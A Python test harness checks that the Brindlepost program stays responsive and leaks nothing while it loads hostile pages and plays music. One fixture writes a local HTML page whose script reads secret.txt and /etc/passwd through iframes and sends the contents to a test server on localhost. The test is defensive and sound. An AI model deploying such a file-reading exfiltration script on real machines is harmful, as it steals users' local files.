"""Pages that mean harm, on the real program, while music plays: `test_hostile.py BUILD_FOLDER [--seconds N] [NAME...]`,
with "all" for every page of the table. With `--beside`, each page is opened in a bare window of the page engine after that, and
a table of the longest answers of both is printed; with `--unread`, on a desktop without a screen reader.

Each page of `hostile_pages.py` gets a tab and some seconds, in which a person clicks into it. Then the person leaves it:
Escape for whatever box is open, the music tab, all tabs closed. Measured all the while: how long the main window took to
answer the window manager, beside a bare window of the toolkit, and the longest gap in the recorded music beside that of a
player of its own on another sink.
At the end: no file but in the download folder, nothing given away, and an ordinary page opens as ever.
"""

import argparse
import json
import os
import pathlib
import re
import signal
import subprocess
import sys
import time

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent))

import certificates
import gaps
import stage as stages
from answering import Answering
from browsing import MUSIC_CAPTION, Browsing, Failed, check
from hostile_pages import MARK, RARE, SECRET_NAME, SECRET_WORD, TABLE
from stage import SAMPLE_RATE, Recorder, StageError, wait_for

# Bounds of the test, which must hold beside other work; what is measured is printed, and is far below on a quiet machine.
LONGEST_ANSWER = 5.0
LONGEST_GAP = 5.0           # milliseconds, over twice what the peer had
TRIES = 3                   # a gap or a slow answer that does not come again is the machine's
SOUND_BUFFER = 55000        # microseconds; what the program begins with
MOST_BOXES = 12             # that a person has to put away before the page can be left
MOST_TABS = 45
MOST_MEMORY = 1500          # MiB of the program's own process
SECONDS = 1.2
CORNER = ("1250", "840")    # of the screen
LONGEST_ARRIVAL = 30        # seconds; beside other work


def milliseconds(*seconds):
    """A wait, and what the thread did meanwhile."""
    if not seconds:
        return "did not come to it"
    wait, ran, waited = (round(1000 * value) for value in seconds)
    return f"{wait} ({ran}, {waited})"


class Hostility(Browsing):

    def __init__(self, stage, seconds):
        self.seconds = seconds
        home = pathlib.Path(stage.environment["HOME"])
        self.downloads = home / "Downloads"
        made = certificates.make(stage.folder / "certificates")
        certificates.trust(home, made / "root.crt")
        self.log = stage.folder / "asked"
        self.log.touch()
        self.host = stage.spawn([sys.executable, str(pathlib.Path(__file__).with_name("hostile_site.py")), str(made),
                                 str(self.log)], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        self.ports = json.loads(self.host.stdout.readline())
        super().__init__(stage, {"/plain": "<title>Plain</title>plain"}, prepare=Hostility.put_in_secrets)
        self.make_local_page()
        self.places = {}
        self.visits = 0
        self.figures = []

    def put_in_secrets(self):
        """Names and passwords that no page of this site may see."""
        self._sql("dbLogin", f"update tblLogin set MySpaceE = '{SECRET_NAME}', MySpaceP = '{SECRET_WORD}', "
                  f"HotmailE = '{SECRET_NAME}', HotmailP = '{SECRET_WORD}'")

    def make_local_page(self):
        """A page on the disk that looks at what lies beside it and gives it away."""
        secret = self.stage.folder / "Files" / "secret.txt"
        secret.parent.mkdir()
        secret.write_text(SECRET_WORD, encoding="ascii")
        got = f"http://127.0.0.1:{self.ports['http']}/got/"
        self.local = secret.with_name("local.html")
        self.local.write_text(
            "<title>local</title>" + "".join(f"<iframe src='{s}'></iframe>" for s in ("secret.txt", "file:///etc/passwd", "/"))
            + f"<script>const got = (w) => {{ new Image().src = '{got}' + encodeURIComponent(w) }}; setInterval(() => {{"
            " for (const f of document.querySelectorAll('iframe')) try { const t = f.contentDocument.body.innerText;"
            " if (t) got('frame ' + t) } catch (e) {} fetch('secret.txt').then(r => r.text()).then(t => got('read ' + t),"
            " () => {}); }, 100)</script>", encoding="ascii")

    # -- music, beside it that of a peer --

    def go_on_unread(self):
        """Starts the program again on a desktop without a screen reader; what is where is known by now."""
        x, y, _, height = self.eyes.row_rect("Tracks", 0)
        self.places["Tone"] = (x + 60, y + height // 2)
        self.program.terminate()
        self.program.wait()
        del self.stage.environment["QT_LINUX_ACCESSIBILITY_ALWAYS_ON"]
        self.program = self.stage.launch(self.application)
        self.stage.window(MUSIC_CAPTION, 40)
        wait_for("the splash to go", lambda: not self.stage.has_window("Brindlepost$"), 30)
        # The window is made again with its first page.
        self.stage.click(*self.places["address"])
        self.stage.type(self.site.address("/plain"))
        self.stage.key("Return")
        self.stage.window("Brindlepost - Plain", 40)
        self.window_id = self.largest_window()
        self.close_all()

    def start_music(self):
        check(self.stage.run("pactl", "load-module", "module-null-sink", "sink_name=peer", f"rate={SAMPLE_RATE}"),
              "no second sink")
        if "Tone" in self.places:
            self.stage.click(*self.places["Tone"], times=2)
        else:
            self.play("Tone")
        self.music = Recorder(self.stage, self.stage.folder / "music.raw")
        wait_for("the music", lambda: self.music.hears(440, least=0.02), 20)
        # As much sound in store as the program keeps, so that a busy machine cuts both short.
        self.stage.spawn(["gst-launch-1.0", "-q", "filesrc", f"location={self.tone}", "!", "wavparse", "!", "audioconvert",
                          "!", "pulsesink", "device=peer", f"buffer-time={SOUND_BUFFER}", f"latency-time={SOUND_BUFFER // 25}"])
        self.peer = Recorder(self.stage, self.stage.folder / "peer.raw", "peer.monitor")
        wait_for("the peer's music", lambda: self.peer.hears(440, least=0.02), 20)

    def ask_windows(self):
        """The program's window and, in the corner that it leaves free, a bare one."""
        self.stage.spawn([str(self.stage.build / "bench" / "bare_window")])
        bare = wait_for("the bare window", lambda: self.stage.run(
            "xdotool", "search", "--onlyvisible", "--class", "bare_window").split(), 20)[0]
        self.stage.run("xdotool", "windowmove", "--sync", bare, *CORNER)
        self.answering = Answering(self.stage.environment["DISPLAY"], self.window_id, self.program.pid)
        self.bare_answering = Answering(self.stage.environment["DISPLAY"], bare)

    def ask_no_more(self):
        self.answering.close()
        self.bare_answering.close()

    def gap(self, recorder, begin):
        """The longest gap since a place in a recording; the newest half second may not have arrived."""
        with open(recorder.path, "rb") as file:
            file.seek(int(begin * SAMPLE_RATE) * 4)
            return gaps.longest_gap(file.read())

    # -- what a person does, by places on the screen: what reads the screen would read the hostile pages too --

    def learn_places(self):
        eyes = self.eyes
        self.places["address"] = eyes.centre("Address", "text")
        self.places["music"] = eyes.centre("Music Player", "page tab")
        self.places["File"] = eyes.centre("File", "menu item")
        self.open("/plain", "Plain")
        self.places["page"] = self.centre_of_page()
        self.stage.click(*self.places["File"])
        self.places["Close"] = eyes.centre("Close", "menu item")
        self.stage.click(*self.places["Close"])
        self.places["All Tabs"] = eyes.centre("All Tabs", "menu item")
        self.stage.click(*self.places["All Tabs"])
        self.wait_for_title(MUSIC_CAPTION)

    def centre_of_page(self):
        x, y, width, height = self.page_rect()
        return x + width // 2, y + height // 2

    def windows(self):
        """The program's windows on the screen, menus among them."""
        return self.stage.run("xdotool", "search", "--onlyvisible", "--class", "Brindlepost").split()

    def close_all(self):
        for attempt in range(4):
            self.put_boxes_away()
            before = len(self.windows())
            self.stage.click(*self.places["File"])
            if not self.comes(lambda: len(self.windows()) > before):
                continue
            self.stage.click(*self.places["Close"])
            if not self.comes(lambda: len(self.windows()) > before + 1):
                continue
            self.stage.click(*self.places["All Tabs"])
            if self.comes(lambda: len(self.windows()) <= before):
                return
        raise Failed("the tabs could not be closed")

    @staticmethod
    def comes(condition, seconds=4):
        try:
            return wait_for("", condition, seconds)
        except StageError:
            return False

    def put_boxes_away(self):
        """Escape, until the main window has the keyboard; how often it took."""
        for pressed in range(MOST_BOXES + 1):
            if self.stage.run("xdotool", "getactivewindow").strip() == self.window_id:
                return pressed
            self.stage.key("Escape")
            self.comes(lambda: self.stage.run("xdotool", "getactivewindow").strip() == self.window_id, 0.3)
        raise Failed(f"after {MOST_BOXES} boxes there is another: {self.stage.front_window()}")

    def leave(self):
        """To the music; the seconds until the window says so."""
        boxes = self.put_boxes_away()
        for _ in range(MOST_BOXES):
            begin = time.monotonic()
            self.stage.click(*self.places["music"])
            if self.comes(lambda: self.title() == MUSIC_CAPTION, LONGEST_ANSWER):
                return boxes, time.monotonic() - begin
            boxes += self.put_boxes_away()
            # What has the whole screen gives it back on Escape.
            self.stage.key("Escape")
        raise Failed(f"the page cannot be left: the window's title is {self.title()[:80]!r}")

    # -- the pages --

    def asked(self, site=""):
        """What one of the sites was asked for, or all of them."""
        lines = self.log.read_text(encoding="utf-8", errors="replace").splitlines()
        return [line for line in lines if line.startswith(site)]

    def began(self):
        return sum("/told/began" in line for line in self.asked())

    def address_of(self, row):
        if row.path == "file":
            return str(self.local)
        # An address of its own each time: the engine asks for one address once at a time, and a page that hangs never ends.
        self.visits += 1
        path = row.path or f"/p/{row.name.replace(' ', '-')}?{self.visits}"
        scheme = "http" if row.scheme == "http" else "https"
        return f"{scheme}://127.0.0.1:{self.ports[row.scheme]}{path}"

    def visit(self, row):
        address = self.address_of(row)
        before, began = len(self.asked(row.scheme)), self.began()
        answers, places = time.monotonic(), (self.music.seconds(), self.peer.seconds())
        self.stage.click(*self.places["address"])
        self.stage.key("ctrl+a")
        self.stage.type(address)
        self.stage.key("Return")
        if row.arrives and row.path != "file":
            self.wait_for_page(f"'{row.name}' to be asked for", lambda: len(self.asked(row.scheme)) > before)
        if row.script or "pal.example" in row.path:
            self.wait_for_page(f"the script of '{row.name}' to begin", lambda: self.began() > began)
        self.suffer(row)
        boxes, click = self.leave()
        self.close_all()
        check(self.program.poll() is None, f"the program ended with {self.program.poll()}")
        if not row.arrives:
            check(len(self.asked(row.scheme)) == before, "a page was read over a connection that should have been refused")
        # The recordings lag by a little.
        wait_for("the recording", lambda end=self.music.seconds() + 0.1: self.music.seconds() > end)
        return self.note(row, answers, places, boxes, click)

    def wait_for_page(self, what, is_there):
        """As long as it takes, while the program lives."""
        wait_for(what, lambda: is_there() or self.program.poll() is not None, LONGEST_ARRIVAL)
        self.must_run()

    def suffer(self, row):
        end = time.monotonic() + self.seconds
        while time.monotonic() < end:
            if row.name == "renderer killed":
                self.kill_renderers()
            if row.clicks and self.stage.run("xdotool", "getactivewindow").strip() == self.window_id:
                self.stage.click(*self.places["page"])
            time.sleep(0.2)

    def kill_renderers(self):
        for process in pathlib.Path("/proc").glob("[0-9]*"):
            try:
                words = (process / "cmdline").read_bytes()
                if b"--type=renderer" in words and self.is_below(int(process.name)):
                    os.kill(int(process.name), signal.SIGSEGV)
            except (OSError, ValueError):
                continue

    def is_below(self, pid):
        """Whether a process was started by the program, over however many steps."""
        while pid > 1:
            if pid == self.program.pid:
                return True
            pid = int(pathlib.Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
        return False

    def memory(self):
        text = pathlib.Path(f"/proc/{self.program.pid}/status").read_text()
        return int(re.search(r"VmRSS:\s+(\d+)", text)[1]) / 1024

    def note(self, row, begin, places, boxes, click):
        figures = {"page": row.name, "answer": self.answering.longest(begin), "bare": self.bare_answering.longest(begin),
                   "work": self.answering.longest_work(begin),
                   "click": click, "boxes": boxes, "gap": self.gap(self.music, places[0]),
                   "peer": self.gap(self.peer, places[1]), "memory": self.memory()}
        self.figures.append(figures)
        print("{page:38} answer {answer:6.3f} s  bare {bare:6.3f} s  click {click:6.3f} s  boxes {boxes:2}  gap {gap:5.1f} ms  "
              "peer {peer:5.1f} ms  memory {memory:5.0f} MiB".format(**figures), flush=True)
        if figures["answer"] >= LONGEST_ANSWER:
            return f"the window did not answer for {figures['answer']:.1f} s"
        if figures["gap"] > LONGEST_GAP + 2 * figures["peer"]:
            return f"a gap of {figures['gap']:.1f} ms in the music, {figures['peer']:.1f} in the peer's"
        return None

    def visit_until_quiet(self, row):
        """What a page does to the clock counts when it does it every time."""
        complaint = None
        for _ in range(TRIES):
            complaint = self.visit(row)
            if not complaint:
                return
        raise Failed(complaint)

    def recover(self):
        """After a page that could not be left, whatever it takes."""
        self.kill_renderers()
        for _ in range(2 * MOST_BOXES):
            self.stage.key("Escape")
        try:
            self.leave()
            self.close_all()
        except (Failed, StageError) as error:
            print(f"the next page begins where this one ended: {error}")

    # -- the same page without the program --

    def begin_bare(self):
        """The bare window with a page of no harm, which it has had to be made again for."""
        quiet = f"/quiet-{self.visits}"
        self.stage.window("Bare pages")
        self.stage.run("xdotool", "windowactivate", "--sync", self.stage.window("Bare pages"))
        self.stage.type(f"http://127.0.0.1:{self.ports['http']}{quiet}")
        self.stage.key("Return")
        wait_for("the quiet page", lambda: any(quiet in line for line in self.asked()), LONGEST_ARRIVAL)
        time.sleep(1)
        window = self.stage.window("Bare pages")
        self.stage.run("xdotool", "windowactivate", "--sync", window)
        return window

    def visit_bare(self, row):
        """The longest answer of a bare window of the engine with the page, and what its thread did meanwhile, in seconds;
        None if it did not come to it."""
        before, began = len(self.asked(row.scheme)), self.began()
        address = self.address_of(row)
        peer = self.stage.spawn([str(self.stage.build / "bench" / "bare_pages")])
        window = self.begin_bare()
        answering = Answering(self.stage.environment["DISPLAY"], window, peer.pid)
        try:
            wait_for("an answer", lambda: answering.longest(0) > 0)
            begin = time.monotonic()
            self.stage.type(address)
            self.stage.key("Return")
            if row.arrives and row.path != "file":
                wait_for("the page", lambda: len(self.asked(row.scheme)) > before, LONGEST_ARRIVAL)
            if row.script or "pal.example" in row.path:
                wait_for("the script", lambda: self.began() > began, LONGEST_ARRIVAL)
            end = time.monotonic() + self.seconds
            while time.monotonic() < end:
                if row.clicks and self.stage.run("xdotool", "getactivewindow").strip() == window:
                    self.stage.click(*self.places["page"])
                time.sleep(0.2)
            return answering.longest(begin), *answering.longest_work(begin)
        except StageError as error:
            print(f"the bare window did not get so far: {error}")
            return None
        finally:
            answering.close()
            # A page that hangs would hold up the polite end.
            peer.kill()
            peer.wait()

    def visit_beside(self, rows):
        """The table of answers: each page in the program, then in a bare window of the engine."""
        for row in rows:
            try:
                self.visit(row)
            except (Failed, StageError) as error:
                print(f"{row.name}: {error}")
                self.recover()
                continue
            bare = self.visit_bare(row)
            self.figures[-1]["engine"] = bare
            self.stage.run("xdotool", "windowactivate", "--sync", self.window_id)
        print("Longest answer in ms; in brackets, of it: the thread ran, the thread waited for a processor.\n"
              "| page | program | bare window of the engine | bare window of the toolkit |\n| --- | --- | --- | --- |")
        for line in sorted(self.figures, key=lambda line: -line["answer"]):
            print(f"| {line['page']} | {milliseconds(line['answer'], *line['work'])} | "
                  f"{milliseconds(*(line.get('engine') or ()))} | {line['bare'] * 1000:.0f} |", flush=True)

    # -- after all of them --

    def nothing_was_got(self):
        got = [line for line in self.asked() if " /got/" in line or SECRET_NAME in line or SECRET_WORD in line]
        check(not got, f"{len(got)} pages got hold of something: {got[:5]}")

    def files_are_where_they_may_be(self):
        for file in [*self.stage.folder.rglob("*"), *pathlib.Path("/tmp").glob("*")]:
            if MARK in file.name or "escape-" in file.name:
                check(file.parent == self.downloads, f"{file} lies outside the download folder")
        for file in self.downloads.iterdir() if self.downloads.is_dir() else []:
            name = file.name
            check(name.isprintable() and not name.startswith((".", "-", "~")) and len(name.encode()) <= 255
                  and not re.search("[\u200b-\u200f\u202a-\u202e\u2066-\u2069/\\\\]", name), f"a download is called {name!r}")
            check(not file.is_symlink() and not file.stat().st_mode & 0o111, f"{name} can be run")

    def a_good_certificate_is_taken(self):
        """Or the refusals of the bad ones would say nothing."""
        self.stage.click(*self.places["address"])
        self.stage.key("ctrl+a")
        self.stage.type(f"https://127.0.0.1:{self.ports['good']}/")
        self.stage.key("Return")
        self.wait_for_caption("quiet")
        self.close_all()

    def an_ordinary_page_opens(self):
        self.open("/plain", "Plain")
        self.close_all()
        check(self.music.hears(440, least=0.02), "the music has stopped")
        check(self.memory() < MOST_MEMORY, f"the program has {self.memory():.0f} MiB")
        check(self.tabs() == 0, f"{self.tabs()} tabs are still there")
        self.end()


def run(person, rows):
    """Visits the pages; the names of those that did harm."""
    bad = []
    for row in rows:
        try:
            person.visit_until_quiet(row)
        except Exception:
            person.stage.tell_failure(row.name, "failure-" + re.sub(r"\W+", "-", row.name) + ".png")
            bad.append(row.name)
            if person.program.poll() is not None:
                break
            person.recover()
    return bad


def main():
    build = stages.become_unprivileged(sys.argv[1])
    parser = argparse.ArgumentParser()
    parser.add_argument("build")
    parser.add_argument("names", nargs="*")
    parser.add_argument("--seconds", type=float, default=SECONDS)
    parser.add_argument("--beside", action="store_true")
    parser.add_argument("--unread", action="store_true")
    options = parser.parse_args()
    if options.names:
        rows = [row for row in TABLE if row.name in options.names or "all" in options.names]
    else:
        rows = [row for row in TABLE if row.name not in RARE]
    with stages.Stage(build) as stage:
        person = Hostility(stage, options.seconds)
        try:
            person.learn_places()
            if options.unread:
                person.go_on_unread()
            person.start_music()
            person.ask_windows()
            try:
                if options.beside:
                    person.visit_beside(rows)
                bad = [] if options.beside else run(person, rows)
            finally:
                person.ask_no_more()
            steps = [person.nothing_was_got, person.files_are_where_they_may_be]
            if not options.beside:
                steps += [person.a_good_certificate_is_taken, person.an_ordinary_page_opens]
            good = not bad and stage.run_steps(steps)
        finally:
            person.close()
    if bad:
        print(f"{len(bad)} of {len(rows)} pages did harm: {', '.join(bad)}")
    if good:
        stage.remove()
    return 0 if good else 1


if __name__ == "__main__":
    sys.exit(main())
